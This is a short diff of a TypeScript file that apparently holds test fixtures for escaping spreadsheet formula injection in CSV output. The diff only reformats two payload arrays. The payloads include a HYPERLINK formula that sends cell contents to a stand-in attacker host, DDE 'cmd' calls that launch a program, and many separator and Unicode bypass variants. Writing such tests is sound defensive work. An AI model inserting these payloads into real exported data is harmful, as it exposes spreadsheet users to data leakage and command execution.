@@ -7,15 +7,38 @@ export const parseCsv = (csv: string) =>
 
 /** Formulas in every form that a spreadsheet recognises. */
 export const FORMULAS = [
-  ...['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1'],
-  ...['-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', '  =1+1'],
-  ...['\u00a0=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)'],
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd|x',
+  '@SUM(1+1)*cmd|x',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\u0000=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
 ];
 
 /** Formulas after any separator that a spreadsheet may split a line at, with or without quotes. */
 export const SPLITS = [
-  ...["x;=cmd|'/C calc'!A0;y", 'x\t=1+2', 'x,=1+2', 'x|=1+2', 'x;;  =1+2', 'x; "=1+2', 'x";=1+2'],
-  ...["x;'\t@SUM(1)", 'x\r\n;+1+cmd|x', 'x;\uff1d1+2', '"=1+1"', 'x\t-2+3', 'x"";=1+1'],
+  "x;=cmd|'/C calc'!A0;y",
+  'x\t=1+2',
+  'x,=1+2',
+  'x|=1+2',
+  'x;;  =1+2',
+  'x; "=1+2',
+  'x";=1+2',
+  "x;'\t@SUM(1)",
+  'x\r\n;+1+cmd|x',
+  'x;\uff1d1+2',
+  '"=1+1"',
+  'x\t-2+3',
+  'x"";=1+1',
 ];
 
 /** Text that must not be escaped. */
